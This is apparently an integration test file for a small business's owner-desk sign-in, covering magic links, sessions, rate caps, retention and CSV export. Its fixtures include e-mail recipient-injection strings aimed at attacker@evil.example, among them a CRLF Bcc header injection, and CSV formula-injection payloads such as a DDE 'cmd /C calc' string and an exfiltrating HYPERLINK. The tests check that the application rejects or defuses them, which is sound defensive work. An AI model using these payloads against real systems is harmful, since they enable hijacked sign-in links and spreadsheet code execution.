/**
 * Who gets into the owner's desk, on PGlite and on a real PostgreSQL server, under the production
 * server with a real SMTP server on loopback: a sign-in link goes only to a desk mailbox as stored,
 * whatever recipients the typed text names; every address is answered alike, after the same
 * statements, before any e-mail; no character gives a 5xx; the caps hold in the database; the
 * sessions are the owner's to list and end; a person taken off the list is let in no more; the CSV
 * runs no formula; the past is not rewritten; and the desk's records go on their day.
 */
import { parseSetCookie } from "cookie";
import { spawnSync } from "node:child_process";
import path from "node:path";
import { freePort, startFunctionServer, type FunctionServer } from "../support/function-server";
import { openStartsOf } from "../support/start-dispenser";
import { SHORT_JOB } from "../support/sample-requests";
import { bodyText, startMailbox, startSilentServer, waitFor, type Mailbox } from "../support/mailbox";
import {
  desk,
  DESK_CAPS,
  DESK_SECRETS,
  deskEngines,
  deskGet,
  mailsTo,
  OFFICE,
  signIn,
  visitors,
} from "../support/desk-client";
import { withDatabase } from "../../src/serve/database-access";
import { siteRoot } from "../../scripts/lib/site-copy";
import type { Queryable } from "../../src/lib/server/db/database";
import { recordLinkAsk } from "../../src/lib/server/desk/sign-in";
import { endLapsedDeskSecrets } from "../../src/lib/server/desk/desk-store";
import { enforceRetention } from "../../src/lib/server/privacy/retention";
import { retention } from "../../src/lib/privacy/declaration";
import { DESK_RECORDS_DAYS } from "../../src/lib/privacy/desk-records";
import { settingsEnv } from "../../src/lib/server/runtime/settings";

const DAY_MS = 24 * 60 * 60 * 1000;
const NEUTRAL = "someone@example.com";
/** Each trick a tester used to have the office's link sent elsewhere. */
const RECIPIENT_TRICKS = [
  "office+<attacker@evil.example>@severnridgeinspections.com",
  "office+, attacker@evil.example, x@severnridgeinspections.com",
  "office+x: attacker@evil.example;@severnridgeinspections.com",
  "office@severnridgeinspections.com, attacker@evil.example",
  '"office@severnridgeinspections.com" <attacker@evil.example>',
  "attacker@evil.example <office@severnridgeinspections.com>",
  "office@severnridgeinspections.com\r\nBcc: attacker@evil.example",
  "office+attacker=evil.example@severnridgeinspections.com",
];
/** What is no text: NUL, lone surrogates and noncharacters. */
const NOT_TEXT = ["\u0000", "\ud800", "\udc00", "\uffff", "\ufdd0", "\u{10fffe}"];

const { book } = visitors("sign-in-visitor");

/** A Queryable that writes down each statement it runs, then runs it. */
function recording(tx: Queryable, statements: string[]): Queryable {
  return {
    query: (sql, params) => {
      statements.push(sql.replace(/\s+/g, " ").trim());
      return tx.query(sql, params);
    },
    exec: (sql) => {
      statements.push(sql);
      return tx.exec(sql);
    },
  };
}

const tokenOf = (raw: string) => /desk\?signin=([A-Za-z0-9_-]+)/.exec(bodyText(raw))![1]!;
const cookieOf = (answer: { headers: Record<string, string | string[] | undefined> }) =>
  String(answer.headers["set-cookie"]).split(";")[0]!;

describe.each(deskEngines)("the desk's sign-in on %s", (_name, setup) => {
  let mailbox: Mailbox;
  let server: FunctionServer;
  let stopEngine: () => Promise<void>;
  let env: Record<string, string>;
  beforeAll(async () => {
    mailbox = await startMailbox();
    ({ env, stop: stopEngine } = await setup());
    server = await startFunctionServer({ SMTP_URL: mailbox.url, ...DESK_SECRETS, ...env });
  });
  afterAll(async () => {
    await server?.stop();
    await stopEngine?.();
    await mailbox?.stop();
  });
  const inDatabase = <T>(work: Parameters<typeof withDatabase<T>>[0], of: FunctionServer = server) =>
    withDatabase(work, { ...process.env, DATA_DIR: of.dataDir, ...env });
  const countOf = async (sql: string, params: unknown[] = [], of: FunctionServer = server) =>
    inDatabase(async (db) => Number((await db.query<{ count: string }>(sql, params))[0]!.count), of);

  it("sends a link only to the desk's mailbox as stored, whatever recipients the typed text names", async () => {
    const linksBefore = await countOf("SELECT count(*) AS count FROM deliveries WHERE message = 'deskLink'");
    const neutral = await desk(server.url, "link", { email: NEUTRAL });
    expect(neutral.status).toBe(200);
    for (const email of RECIPIENT_TRICKS) {
      const answer = await desk(server.url, "link", { email });
      expect([email, answer.status, answer.body]).toEqual([email, 200, neutral.body]);
    }
    // The office's own link, asked for last, arrives: everything asked before it has been handled.
    const sent = mailsTo(mailbox, OFFICE, /desk\?signin=/).length;
    expect((await desk(server.url, "link", { email: "Office@SevernRidgeInspections.com" })).status).toBe(200);
    await waitFor("the office's link", () => mailsTo(mailbox, OFFICE, /desk\?signin=/).length > sent);
    expect(mailbox.recipientsAsked.filter((to) => /evil/i.test(to))).toEqual([]);
    expect(await countOf("SELECT count(*) AS count FROM deliveries WHERE mail->>'to' ILIKE '%evil%'")).toBe(0);
    expect(await countOf("SELECT count(*) AS count FROM deliveries WHERE message = 'deskLink'")).toBe(linksBefore + 1);
    const link = mailsTo(mailbox, OFFICE, /desk\?signin=/).at(-1)!;
    expect(link.to).toEqual([OFFICE]);
    expect(bodyText(link.raw)).toMatch(/^To: office@severnridgeinspections\.com\r?$/m);
  });

  it("answers the desk's addresses and any other alike, with NUL, lone surrogates and noncharacters", async () => {
    const neutral = await desk(server.url, "link", { email: NEUTRAL });
    for (const character of NOT_TEXT) {
      for (const email of [
        `office+${character}@severnridgeinspections.com`,
        `someone+${character}@severnridgeinspections.com`,
        `someone+${character}@example.com`,
        `office@severnridgeinspections.com${character}`,
      ]) {
        const answer = await desk(server.url, "link", { email });
        expect([JSON.stringify(email), answer.status, answer.body]).toEqual([JSON.stringify(email), 200, neutral.body]);
      }
    }
  });

  it("runs the same statements for a desk address as for any other, and the answer waits for no e-mail", async () => {
    const now = new Date();
    const asked = await inDatabase(async (db) => {
      const run = async (person: string | null) => {
        const statements: string[] = [];
        const reference = await db.transaction((tx) =>
          recordLinkAsk(recording(tx, statements), { person, client: "192.0.2.7", now }),
        );
        const [mails] = await db.query<{ count: string }>(
          "SELECT count(*) AS count FROM deliveries WHERE reference = $1",
          [reference],
        );
        return { statements, mails: Number(mails!.count) };
      };
      return { desk: await run(OFFICE), other: await run(null) };
    });
    // The two differ in what they store (a link e-mail, or none), never in the work done.
    expect([asked.desk.mails, asked.other.mails]).toEqual([1, 0]);
    expect(asked.desk.statements.length).toBeGreaterThan(3);
    expect(asked.other.statements).toEqual(asked.desk.statements);

    // A mail server that never answers: a desk address is still answered, as any other is.
    const silentPort = await freePort();
    const silent = await startSilentServer(silentPort);
    const hung = await startFunctionServer({
      SMTP_URL: `smtp://127.0.0.1:${silentPort}`,
      ...DESK_SECRETS,
      // Were the answer to wait for the e-mail, it would wait this hour.
      ...settingsEnv({ ...DESK_CAPS, mailBeforeAnswerMs: 3_600_000 }),
      ...env,
    });
    try {
      const other = await desk(hung.url, "link", { email: NEUTRAL });
      const office = await desk(hung.url, "link", { email: OFFICE });
      expect([office.status, office.body]).toEqual([200, other.body]);
    } finally {
      await hung.stop();
      await silent.stop();
    }
  });

  it("sends one mailbox no more links in an hour than its cap, counted in the database across servers", async () => {
    const cappedEnv = {
      SMTP_URL: mailbox.url,
      ...DESK_SECRETS,
      ...settingsEnv({ deskLinksPerMailboxPerHour: 2, deskLinksPerClientPerHour: 1000 }),
      MAIL_TO: "capped@example.com",
      ...env,
    };
    // On PostgreSQL two servers share the count, as Netlify's instances do; PGlite has one server.
    const capped = [await startFunctionServer(cappedEnv)];
    if (env.DATABASE_URL) capped.push(await startFunctionServer(cappedEnv));
    try {
      const answers = [];
      for (let ask = 0; ask < 4; ask += 1) {
        answers.push(await desk(capped[ask % capped.length]!.url, "link", { email: "capped@example.com" }));
      }
      expect(new Set(answers.map((answer) => `${answer.status} ${answer.body}`)).size).toBe(1);
      await waitFor("two links", () => mailsTo(mailbox, "capped@example.com", /desk\?signin=/).length === 2);
      const count = (sql: string) => countOf(sql, [], capped[0]);
      expect(
        await count(
          "SELECT count(*) AS count FROM desk_links WHERE mailbox = 'capped@example.com' AND token_hash IS NOT NULL",
        ),
      ).toBe(2);
      expect(await count("SELECT count(*) AS count FROM deliveries WHERE mail->>'to' = 'capped@example.com'")).toBe(2);
    } finally {
      for (const each of capped) await each.stop();
    }
  });

  it("lets in a person the list names no more: their session ends at the next request, their unused link fails", async () => {
    await server.stop();
    const person = "manager@example.com";
    const listed = await startFunctionServer(
      { SMTP_URL: mailbox.url, ...DESK_SECRETS, MAIL_TO: person, ...env },
      server.dataDir,
    );
    let cookie = "";
    let unused = "";
    try {
      const before = mailsTo(mailbox, person, /desk\?signin=/).length;
      expect((await desk(listed.url, "link", { email: person })).status).toBe(200);
      await waitFor("the manager's link", () => mailsTo(mailbox, person, /desk\?signin=/).length === before + 1);
      const signedIn = await desk(listed.url, "sign-in", {
        token: tokenOf(mailsTo(mailbox, person, /signin/).at(-1)!.raw),
      });
      expect(signedIn.status).toBe(200);
      cookie = cookieOf(signedIn);
      expect((await deskGet(listed.url, "session", cookie)).status).toBe(200);
      expect((await desk(listed.url, "link", { email: person })).status).toBe(200);
      await waitFor("a second link", () => mailsTo(mailbox, person, /desk\?signin=/).length === before + 2);
      unused = tokenOf(mailsTo(mailbox, person, /desk\?signin=/).at(-1)!.raw);
    } finally {
      await listed.stop();
    }
    // The same database, served without MAIL_TO: the manager is no longer one of the desk's people.
    server = await startFunctionServer({ SMTP_URL: mailbox.url, ...DESK_SECRETS, ...env }, server.dataDir);
    expect((await deskGet(server.url, "days", cookie)).status).toBe(401);
    expect(await countOf("SELECT count(*) AS count FROM desk_sessions WHERE mailbox = $1", [person])).toBe(0);
    expect((await desk(server.url, "sign-in", { token: unused })).status).toBe(410);
  });

  it("lists the sessions and ends every other one; a notice's link ends exactly the session it tells of", async () => {
    const first = await signIn(server.url, mailbox);
    const second = await signIn(server.url, mailbox);
    const third = await signIn(server.url, mailbox);
    const listed = JSON.parse((await deskGet(server.url, "sessions", first)).body) as {
      sessions: Array<{ number: number; mailbox: string; client: string; since: string; current: boolean }>;
    };
    expect(listed.sessions.length).toBeGreaterThanOrEqual(3);
    expect(listed.sessions.filter((session) => session.current)).toHaveLength(1);
    expect(listed.sessions[0]).toMatchObject({ mailbox: OFFICE, client: "127.0.0.1", current: false });
    expect(listed.sessions[0]!.since).toMatch(/\(Maryland time\)$/);

    // "End every other session": the other two end, the caller's goes on.
    expect((await desk(server.url, "end-other-sessions", {}, first)).status).toBe(200);
    expect((await deskGet(server.url, "session", second)).status).toBe(401);
    expect((await deskGet(server.url, "session", third)).status).toBe(401);
    expect((await deskGet(server.url, "session", first)).status).toBe(200);
    const left = JSON.parse((await deskGet(server.url, "sessions", first)).body) as { sessions: unknown[] };
    expect(left.sessions).toHaveLength(1);

    // The notice of the latest sign-in ends that session, from a browser with no session at all.
    const fourth = await signIn(server.url, mailbox);
    const notices = () => mailsTo(mailbox, OFFICE, /Signed in to the desk/);
    const noticesBefore = notices().length;
    const fifth = await signIn(server.url, mailbox);
    await waitFor("the fifth sign-in's notice", () => notices().length > noticesBefore);
    const end = /desk\?end=([A-Za-z0-9_-]+)/.exec(bodyText(notices().at(-1)!.raw))![1]!;
    expect((await desk(server.url, "end-by-notice", { end }, undefined, "https://evil.example")).status).toBe(403);
    const ended = await desk(server.url, "end-by-notice", { end });
    expect(ended.status).toBe(200);
    expect(JSON.parse(ended.body)).toMatchObject({ ended: { mailbox: OFFICE, client: "127.0.0.1" } });
    expect((await deskGet(server.url, "session", fifth)).status).toBe(401);
    expect((await deskGet(server.url, "session", fourth)).status).toBe(200);
    expect((await deskGet(server.url, "session", first)).status).toBe(200);
    expect((await desk(server.url, "end-by-notice", { end })).status).toBe(410);
    // The notice's secret is gone from the stored e-mail once its session is.
    expect(
      await countOf(`SELECT count(*) AS count FROM deliveries WHERE mail->>'text' LIKE $1`, [`%end=${end}%`]),
    ).toBe(0);

    // One session by its number; one's own signs out.
    const numbered = JSON.parse((await deskGet(server.url, "sessions", first)).body) as {
      sessions: Array<{ number: number; current: boolean }>;
    };
    const fourthNumber = numbered.sessions.find((session) => !session.current)!.number;
    expect((await desk(server.url, "end-session", { number: fourthNumber }, first)).status).toBe(200);
    expect((await deskGet(server.url, "session", fourth)).status).toBe(401);
    const own = numbered.sessions.find((session) => session.current)!.number;
    const signedOut = await desk(server.url, "end-session", { number: own }, first);
    expect(JSON.parse(signedOut.body)).toMatchObject({ signedOut: true });
    expect(parseSetCookie(String(signedOut.headers["set-cookie"]))).toMatchObject({
      name: "desk",
      value: "",
      path: "/api/desk",
      maxAge: 0,
    });
    expect((await deskGet(server.url, "session", first)).status).toBe(401);
  });

  it("answers 400, never 5xx, to a character that is not text in any desk action", async () => {
    const cookie = await signIn(server.url, mailbox);
    for (const character of NOT_TEXT) {
      const reference = `SR-${character}-1`;
      for (const action of [
        "confirm",
        "cancel",
        "move",
        "hand",
        "resend",
        "resend-signing",
        "report-upload-link",
        "report-attach",
        "report-release",
        "time-off-remove",
      ]) {
        const answer = await desk(server.url, action, { reference, start: "2030-01-02T10:00", inspector: 2 }, cookie);
        expect([action, JSON.stringify(character), answer.status]).toEqual([action, JSON.stringify(character), 400]);
      }
      const from = new Date(Date.now() + 5 * DAY_MS).toISOString().slice(0, 10);
      const timeOff = await desk(
        server.url,
        "time-off",
        { inspector: 1, from: `${from}T09:00`, to: `${from}T10:00`, note: `dentist ${character}` },
        cookie,
      );
      expect(timeOff.status).toBe(400);
      expect((await desk(server.url, "sign-in", { token: `a${character}b` })).status).toBe(400);
      expect((await desk(server.url, "end-by-notice", { end: `a${character}b` })).status).toBe(400);
      expect((await desk(server.url, "end-session", { number: 1, [`x${character}`]: 1 }, cookie)).status).toBe(400);
    }
    expect(server.logs()).not.toMatch(/unexpected error/);
  });

  it("writes no formula into the CSV, in the desk's download and in npm run requests -- --csv", async () => {
    const [start] = await openStartsOf(server.url, SHORT_JOB);
    const answer = await book(server.url, start!, {
      name: '=HYPERLINK("http://x.example/?"&A1,"y")',
      street: "@SUM(A1) Lane",
      agentName: "-2+3+cmd|' /C calc'!A0",
      agentEmail: "agent@example.com",
    });
    expect(answer.status).toBe(201);
    const cookie = await signIn(server.url, mailbox);
    const download = await deskGet(server.url, "csv", cookie);
    expect(download.status).toBe(200);
    const printed = spawnSync(
      process.execPath,
      ["--import", "tsx", path.join(siteRoot, "scripts", "commands", "requests.ts"), "--csv"],
      { cwd: siteRoot, encoding: "utf8", env: { ...process.env, DATA_DIR: server.dataDir, ...env } },
    );
    expect(printed.status).toBe(0);
    for (const csv of [download.body, printed.stdout]) {
      expect(csv).toContain(`"'=HYPERLINK(""http://x.example/?""&A1,""y"")"`);
      expect(csv).toContain(`"'@SUM(A1) Lane`);
      expect(csv).toContain(`"'-2+3+cmd|' /C calc'!A0"`);
      // No cell anywhere starts as a formula would.
      expect(csv).not.toMatch(/(^|,)"[=+\-@\t\r]/m);
    }
  });

  it("refuses to cancel, move or hand over a visit that has started, and time off before today or past a year", async () => {
    const cookie = await signIn(server.url, mailbox);
    const [start] = await openStartsOf(server.url, SHORT_JOB);
    const answer = await book(server.url, start!);
    const { reference } = JSON.parse(answer.body) as { reference: string };
    expect((await desk(server.url, "confirm", { reference }, cookie)).status).toBe(200);
    // The visit made history: moved to a year before, where nothing else is.
    await inDatabase((db) =>
      db.query(
        `UPDATE bookings SET start_at = start_at - interval '400 days',
           during = tstzrange(lower(during) - interval '400 days', upper(during) - interval '400 days')
         WHERE reference = $1`,
        [reference],
      ),
    );
    for (const [action, body] of [
      ["cancel", { reference }],
      ["move", { reference, start: start!.slice(0, 16), outsideHours: true }],
      ["hand", { reference, inspector: 2 }],
      ["hand", { reference, inspector: 1 }],
    ] as const) {
      const refused = await desk(server.url, action, body, cookie);
      expect([action, refused.status, refused.body]).toEqual([
        action,
        409,
        expect.stringMatching(/^This visit started on /),
      ]);
    }
    const [row] = await inDatabase((db) =>
      db.query<{ status: string; moves: number }>("SELECT status, moves FROM bookings WHERE reference = $1", [
        reference,
      ]),
    );
    expect(row).toMatchObject({ status: "booked", moves: 0 });

    const timeOff = (from: string, to: string) =>
      desk(server.url, "time-off", { inspector: 1, from, to, note: "" }, cookie);
    const past = await timeOff("2020-03-02T09:00", "2020-03-02T12:00");
    expect([past.status, past.body]).toEqual([400, "Time off starts today at the earliest: the days before are over."]);
    const yearOn = new Date(Date.now() + 366 * DAY_MS).toISOString().slice(0, 10);
    const far = await timeOff(`${yearOn}T09:00`, `${yearOn}T12:00`);
    expect([far.status, far.body]).toEqual([400, "Time off ends within a year from today."]);
  });

  it("removes each link's token from its e-mail once used or over, and deletes the desk's records on their day", async () => {
    const cookie = await signIn(server.url, mailbox);
    // A used link's token is gone from the e-mail kept of it; an unused one's once it is over.
    expect(await countOf("SELECT count(*) AS count FROM desk_links WHERE used_at IS NOT NULL")).toBeGreaterThan(0);
    expect(
      await countOf(
        `SELECT count(*) AS count FROM deliveries AS d JOIN desk_links AS l ON l.reference = d.reference
         WHERE l.used_at IS NOT NULL AND d.mail->>'text' NOT LIKE '%signin=expired%'`,
      ),
    ).toBe(0);
    const sent = mailsTo(mailbox, OFFICE, /desk\?signin=/).length;
    expect((await desk(server.url, "link", { email: OFFICE })).status).toBe(200);
    await waitFor("an unused link", () => mailsTo(mailbox, OFFICE, /desk\?signin=/).length > sent);
    const unused = tokenOf(mailsTo(mailbox, OFFICE, /desk\?signin=/).at(-1)!.raw);
    const kept = () => countOf("SELECT count(*) AS count FROM deliveries WHERE mail->>'text' LIKE $1", [`%${unused}%`]);
    expect(await kept()).toBe(1);
    await inDatabase((db) => endLapsedDeskSecrets(db, new Date(Date.now() + 16 * 60_000)));
    expect(await kept()).toBe(0);

    // Time off is a desk record that stays: it is a booking row, kept as bookings are.
    const day = new Date(Date.now() + 20 * DAY_MS).toISOString().slice(0, 10);
    expect(
      (await desk(server.url, "time-off", { inspector: 2, from: `${day}T06:00`, to: `${day}T07:00`, note: "" }, cookie))
        .status,
    ).toBe(200);
    const signInRecords = () =>
      countOf(
        "SELECT count(*) AS count FROM requests WHERE kind = 'desk-actions' AND record->>'type' IN ('desk-link', 'desk-sign-in')",
      );
    expect(await signInRecords()).toBeGreaterThan(0);
    const timeOffRecords = () =>
      countOf("SELECT count(*) AS count FROM requests WHERE kind = 'desk-actions' AND record->>'type' = 'time-off'");
    const timeOffBefore = await timeOffRecords();
    expect(timeOffBefore).toBeGreaterThan(0);

    // The day before their period is over, they stay; on it, they go.
    const counts = await inDatabase(async (db) => ({
      before: await enforceRetention(db, new Date(Date.now() + (DESK_RECORDS_DAYS - 1) * DAY_MS), retention, null),
      on: await enforceRetention(db, new Date(Date.now() + (DESK_RECORDS_DAYS + 1) * DAY_MS), retention, null),
    }));
    expect(counts.before).toMatchObject({ deskSignIns: 0 });
    expect(counts.on!.deskSignIns).toBeGreaterThan(0);
    expect(await signInRecords()).toBe(0);
    expect(await countOf("SELECT count(*) AS count FROM desk_links")).toBe(0);
    expect(await timeOffRecords()).toBe(timeOffBefore);

    // A session past its end is ended by the minute's pass, its notice's secret with it.
    await inDatabase((db) => endLapsedDeskSecrets(db, new Date(Date.now() + 11 * 60 * 60_000)));
    expect(await countOf("SELECT count(*) AS count FROM desk_sessions")).toBe(0);
    expect((await deskGet(server.url, "session", cookie)).status).toBe(401);
  });
});
